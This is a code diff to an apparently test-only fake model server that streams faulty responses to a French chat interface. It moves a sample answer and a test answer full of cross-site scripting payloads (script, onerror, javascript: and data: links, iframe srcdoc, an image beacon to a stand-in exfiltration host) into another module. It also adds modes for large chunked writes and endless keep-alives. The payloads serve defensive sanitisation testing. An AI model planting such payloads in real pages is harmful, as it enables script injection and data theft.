@@ -1,3 +1,4 @@
+import { tokensOf, XSS_ANSWER } from './fault-model-answers.ts'
 import { factsIn, partIn, transformedIn } from './reading-model.ts'
 
 /** What the faulty model server plays, as steps: the server only knows how to send them. */
@@ -20,30 +21,6 @@ type ModeContext = {
 }
 
 type Mode = (context: ModeContext) => Generator<Step>
-
-export const DEFAULT_ANSWER = `Bonjour, voici une première proposition pour votre délibération.
-
-1. **Visas** : rappelez le code général des collectivités territoriales.
-2. **Considérants** : exposez le besoin, le montant et l’échéance.
-3. **Décision** : une phrase par article, au présent.
-
-Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`
-
-export const XSS_ANSWER = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
-[lien](javascript:window.__xss=4) ![image](https://exfiltration.invalid/x.png?d=secret)
-<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> [ref][r]
-
-[r]: data:text/html,<script>window.__xss=6</script>
-Après.`
-
-/** Words with the white space that follows them: what a model's tokens look like. */
-export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? []
-
-/** The default answer, or `count` tokens made by repeating it. */
-export const answerTokens = (count?: number): string[] => {
-  const tokens = tokensOf(DEFAULT_ANSWER)
-  return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!)
-}
 
 const head = (status: number, headers: Record<string, string>): Step => ({ kind: 'head', status, headers })
 const STREAM = head(200, { 'content-type': 'text/event-stream; charset=utf-8' })
@@ -264,6 +241,24 @@ const MODES = {
     yield STREAM
     for (const byte of Buffer.from(whole(context))) yield bytes(Buffer.of(byte))
     yield end('clean')
+  },
+  /** Writes of so many bytes (65,536), wherever they cut, of an answer of four of them. */
+  *blocs(context) {
+    yield STREAM
+    const size = context.argument ?? 65_536
+    const once = context.tokens.map((token) => event(delta(context, token))).join('')
+    const all = Buffer.from(once.repeat(Math.ceil((4 * size) / once.length)) + finish(context, 'stop') + DONE)
+    for (let sent = 0; sent < all.length; sent += size) yield bytes(all.subarray(sent, sent + size))
+    yield end('clean')
+  },
+  /** Comments that only say that the connection is alive, without end, after so many tokens (0). */
+  *'vivant-sans-fin'(context) {
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, context.argument ?? 0))
+    for (;;) {
+      yield { kind: 'bytes', bytes: ': keep-alive\n\n', token: true }
+      yield wait(5)
+    }
   },
   *crlf(context) {
     yield STREAM
